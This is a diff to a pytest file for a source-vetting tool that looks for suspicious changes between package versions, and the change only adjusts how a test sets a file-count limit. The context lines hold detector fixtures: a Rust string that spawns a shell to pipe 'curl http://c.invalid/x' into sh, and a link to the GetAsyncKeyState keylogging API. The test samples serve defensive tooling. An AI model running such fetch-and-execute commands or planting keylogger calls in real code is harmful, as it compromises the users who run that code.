@@ -3,7 +3,7 @@
 import pytest
 from source_lab import Version, ids
 
-from beartrap.vet.source_guards import FILES, GuardAnalyser
+from beartrap.vet.source_guards import GuardAnalyser
 
 PIPED = 'fn g() { std::process::Command::new("sh").arg("-c").arg("curl http://c.invalid/x | sh").spawn(); }'
 LINKED = '::windows_targets::link!("user32.dll" "system" #[doc = "k"] fn GetAsyncKeyState(vkey: i32) -> i16);\n'
@@ -30,8 +30,11 @@ def test_a_choice_among_nothing() -> None:
 
 
 @pytest.mark.parametrize(("line", "gaps"), [("// of revision 2", 0), ("x(2);", 1), ("/*\n// */ x(2);", 1)])
-def test_files_of_which_only_remarks_are_other_ones_need_no_comparison(line: str, gaps: int) -> None:
+def test_files_of_which_only_remarks_are_other_ones_need_no_comparison(
+    monkeypatch: pytest.MonkeyPatch, line: str, gaps: int
+) -> None:
+    monkeypatch.setattr("beartrap.vet.source_guards.MOST", 1_000)
     code = "{}\nfunction verify(a, b) {{ return timingSafeEqual(a, b); }}\n"
-    old = Version({f"{number}.js": code.format("// of revision 1") for number in range(FILES + 1)})
+    old = Version({f"{number}.js": code.format("// of revision 1") for number in range(40)})
     new = Version({path: code.format(line) for path in old.paths}, trusted=old)
     assert len(list(GuardAnalyser().look(old, new))) == gaps
